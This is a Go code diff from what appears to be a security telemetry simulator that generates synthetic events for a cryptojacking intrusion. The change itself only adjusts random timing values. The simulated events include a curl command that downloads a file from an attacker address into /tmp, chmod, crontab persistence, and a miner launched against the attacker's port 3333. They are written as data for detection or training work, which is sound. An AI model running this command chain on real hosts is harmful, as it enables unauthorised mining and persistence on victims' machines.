@@ -21,11 +21,11 @@ func mining(e trace.Env, at int64, a Args) {
 		e.Start(d, e.O.Image(d, c[0]), user, bash, step(), c[1])
 	}
 	get := e.Start(d, e.O.Image(d, "curl"), user, bash, step(), fmt.Sprintf("curl -fsSL http://%s/%s -o /tmp/%s", from.IP, im.File, im.File))
-	e.Connect(get, get.Created+e.R.Between(100, 900)*tick.Millisecond, trace.Flow{LocalIP: d.IP, RemoteIP: from.IP, Port: 80, URL: from.IP, Site: d.Site, Sent: 214, Received: im.Size})
+	e.Connect(get, get.Created+e.R.Between(100*tick.Millisecond, 900*tick.Millisecond), trace.Flow{LocalIP: d.IP, RemoteIP: from.IP, Port: 80, URL: from.IP, Site: d.Site, Sent: 214, Received: im.Size})
 	e.File(get, step(), trace.FileEvent{Action: "FileCreated", Path: "/tmp/" + im.File, Image: im})
 	e.Start(d, e.O.Image(d, "chmod"), user, bash, step(), "chmod +x /tmp/"+im.File)
 	cron := e.Start(d, e.O.Image(d, "crontab"), user, bash, step(), "crontab -")
-	e.Syslog(cron.Created+e.R.Between(2, 40)*tick.Millisecond, d, "cron", "info", "crontab", cron.PID, "(deploy) REPLACE (deploy)")
+	e.Syslog(cron.Created+e.R.Between(2*tick.Millisecond, 40*tick.Millisecond), d, "cron", "info", "crontab", cron.PID, "(deploy) REPLACE (deploy)")
 	miner := e.Start(d, im, user, bash, step(), "/tmp/"+im.File+" -o "+from.IP+":3333 --donate-level 0")
 	for range 12 {
 		e.Connect(miner, at, trace.Flow{LocalIP: d.IP, RemoteIP: from.IP, Port: 3333, Site: d.Site, App: "stratum", Sent: e.R.Between(3600, 4800), Received: e.R.Between(2100, 3100)})
